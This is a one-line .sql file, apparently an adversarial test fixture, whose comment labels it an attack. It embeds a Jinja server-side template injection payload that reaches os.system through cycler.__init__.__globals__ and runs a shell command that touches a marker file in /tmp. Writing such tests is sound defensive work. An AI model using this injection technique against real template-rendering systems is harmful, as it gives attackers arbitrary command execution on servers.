-- ATTACK (.sql file): cycler.__init__.__globals__.os, then a shell command
SELECT '{{ cycler.__init__.__globals__.os.system('touch /tmp/kappa-adversarial-ssti-file-cycler') }}' AS x
